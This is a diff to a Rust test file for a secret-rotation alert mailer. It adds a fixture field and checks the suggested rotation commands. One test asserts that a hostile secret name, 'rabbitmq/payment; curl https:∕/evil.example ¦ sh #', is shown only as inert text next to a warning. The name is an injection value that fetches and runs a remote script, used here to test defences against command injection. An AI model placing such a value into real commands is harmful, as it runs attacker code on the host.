@@ -76,8 +76,11 @@ impl Foreign {
         let mut record = Record::new(subject.clone(), area);
         record.fail(&failure, at);
         record.succeed(&Success { id: "2".to_owned(), area, subject, at, of_test: false }, at);
-        let places =
-            Places { playbooks: PLAYBOOKS.to_owned(), secret2eks: Some("rotation-secret2eks".to_owned()) };
+        let places = Places {
+            playbooks: PLAYBOOKS.to_owned(),
+            secret2eks: Some("rotation-secret2eks".to_owned()),
+            stack: Some("rotation".to_owned()),
+        };
         let told = record.unsent.iter().map(|announcement| {
             alert(Told { announcement, subject: &self.subject, area, facts: None }, &places)
         });
@@ -273,6 +276,7 @@ fn a_command_that_cannot_name_the_secret_says_so_and_shows_the_name_as_text() {
     let alerts = foreign.alerts(Kind::SecretInvalid, Area::Rotation);
     let mail = alerts.first().map(Alert::mail).unwrap_or_default();
     assert!(mail.contains("aws secretsmanager rotate-secret --secret-id SECRET\n"), "{mail}");
+    assert!(mail.contains("secops --stack rotation rotate SECRET --follow\n"), "{mail}");
     assert!(mail.contains("Do not paste the name above into a shell"), "{mail}");
     assert!(mail.contains("rabbitmq/payment; curl https:∕/evil.example ¦ sh #"), "{mail}");
     let value = json!(alerts.first());
